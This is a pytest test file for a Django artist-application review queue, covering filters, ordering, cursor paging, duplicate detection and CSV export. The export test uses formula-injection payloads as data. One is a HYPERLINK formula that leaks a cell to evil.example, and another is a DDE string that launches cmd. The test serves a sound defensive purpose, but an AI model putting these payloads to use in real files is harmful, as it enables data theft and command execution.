"""The queue: filters, orders, paging, doubles, export."""

import csv
import io

import pytest
from django.urls import reverse

from artists.applications.doubles import doubles_of
from artists.applications.listing import PAGE_SIZE
from artists.applications.reading import score
from artists.models import Score
from tests.artists.applications.rows import make_application, make_round

LIST = reverse("artists:applications")


@pytest.fixture
def many(open_round):
    """Thirty, the first the oldest."""
    return [
        make_application(
            open_round,
            name=f"Person {chr(65 + n % 26)}{n}",
            email=f"p{n}@example.org",
            links=(f"https://p{n}.example/",),
            address=f"10.0.{n}.1",
        )
        for n in range(PAGE_SIZE + 5)
    ]


def walk(client, query: str) -> list:
    """The applications of all pages, in order."""
    found, after = [], ""
    while True:
        page = client.get(f"{LIST}?{query}&after={after}").context["page"]
        found += page.items
        after = page.next_cursor
        if not after:
            return found


def test_neither_order_nor_cursor_says_what_others_think(client, many, reviewer, make_artist):
    """Until one has said what one thinks oneself; who decides sees it."""
    for one, points in zip(many, (1, 5, 2), strict=False):
        score(application=one, reader=reviewer, scores=[Score(criterion="craft", points=points)])
    other = make_artist("Olga", role="reviewer")
    score(application=many[0], reader=other, scores=[Score(criterion="craft", points=3)])

    figures = {}
    for who in (other, make_artist("Maja", role="manager")):
        client.force_login(who)
        page = client.get(f"{LIST}?order=best").context["page"]
        figures[who.credit_name] = [one.mean_hundredths for one in page.items[:4]]

    assert figures == {"Olga": [200, 0, 0, 0], "Maja": [500, 200, 200, 0]}


@pytest.mark.parametrize("order", ["new", "best", "unread"])
def test_every_order_pages_through_all_of_them_once(client, many, reviewer, order):
    for number, one in enumerate(many[::2]):
        scores = [
            Score(criterion="craft", points=1 + number % 5),
            Score(criterion="idea", points=1 + number % 3),
        ]
        score(application=one, reader=reviewer, scores=scores)
    client.force_login(reviewer)

    found = walk(client, f"order={order}")

    assert {one.pk for one in found} == {one.pk for one in many}
    assert len(found) == len(many)
    figures = {
        "new": [one.pk.int for one in found],
        "best": [one.mean_hundredths for one in found],
        "unread": [-one.readers for one in found],
    }[order]
    assert figures == sorted(figures, reverse=True)


@pytest.mark.parametrize("cursor", ["x", "1_", "_", "-1_x", "99999999999999999999_x", "1_\0", "é"])
def test_a_cursor_that_no_page_gave_begins_at_the_start(client, application, reviewer, cursor):
    client.force_login(reviewer)

    page = client.get(LIST, {"after": cursor, "order": "best"})

    assert [one.pk for one in page.context["page"].items] == [application.pk]


def test_filters_narrow_down(client, cohort, open_round, reviewer):
    other = make_round(cohort, name="Winter")
    dancer = make_application(open_round, name="Dana", email="d@example.org", disciplines="dance")
    painter = make_application(other, name="Pia", email="p@example.org", disciplines="painting")
    score(application=dancer, reader=reviewer, scores=[Score(criterion="craft", points=3)])
    client.force_login(reviewer)

    asked = {
        "q=dance": [dancer],
        f"round={other.pk}": [painter],
        "state=received": [painter, dancer],
        "state=declined": [],
        "reading=open": [painter],
        "reading=done": [dancer],
        "q=%00&round=x&state=y&reading=z&order=w": [painter, dancer],
    }
    for query, expected in asked.items():
        found = client.get(f"{LIST}?{query}").context["page"].items
        assert {one.pk for one in found} == {one.pk for one in expected}, query


def test_a_page_of_the_queue_reads_with_the_same_queries_however_long_it_is(
    client, many, manager, django_assert_max_num_queries
):
    client.force_login(manager)
    client.get(LIST)

    with django_assert_max_num_queries(10):
        page = client.get(LIST)

    assert len(page.context["page"].items) == PAGE_SIZE


@pytest.mark.parametrize(
    ("other", "reason"),
    [
        ({"email": "NORA+tides@example.org", "name": "Another One"}, "same e-mail"),
        ({"email": "x@example.org", "name": "QUILL, Norá"}, "same name"),
        ({"email": "x@example.org", "name": "Another", "address": "192.0.2.200"}, "same network"),
        (
            {
                "email": "x@example.org",
                "name": "Another",
                "links": ("http://www.NORA.example/work/?utm=1",),
            },
            "same link nora.example/work",
        ),
    ],
)
def test_possible_doubles_are_pointed_out_with_their_reason(open_round, other, reason):
    first = make_application(open_round, address="192.0.2.1")
    second = make_application(
        open_round, **({"links": ("https://other.example/",), "address": "198.51.100.1"} | other)
    )

    (double,) = doubles_of([first])[first.pk]

    assert (double.application, double.reasons) == (second, [reason])


def test_strangers_are_no_doubles_and_another_round_s_network_is_none(cohort, open_round):
    first = make_application(open_round, address="192.0.2.1")
    others = {"name": "Another", "email": "x@example.org", "links": ("https://x.example/",)}
    make_application(open_round, address="198.51.100.1", **others)
    make_application(make_round(cohort, name="Winter"), address="192.0.2.2", **others)

    assert doubles_of([first])[first.pk] == []


def test_doubles_stand_on_the_list_and_on_the_page(client, open_round, reviewer):
    first = make_application(open_round)
    make_application(open_round, name="Nora Double")
    client.force_login(reviewer)

    assert "Possible double" in client.get(LIST).text
    assert "Nora Double" in client.get(reverse("artists:application", args=[first.pk])).text


def test_the_export_holds_no_formula(client, open_round, manager):
    make_application(
        open_round,
        name='=HYPERLINK("http://evil.example/?"&A1,"Nora")',
        disciplines="@SUM(1)",
        statement=" +1+1",
        would_make="\uff1dcmd|' /C calc'!A0",
        heard_from="-2",
    )
    client.force_login(manager)

    content = client.get(reverse("artists:export_applications")).getvalue().decode("utf-8-sig")

    headings, row = csv.reader(io.StringIO(content))
    told = dict(zip(headings, row, strict=True))
    for name in ("name", "disciplines", "statement", "would make", "heard from"):
        assert told[name].startswith("'"), name
    assert told["links"] == "https://nora.example/work"
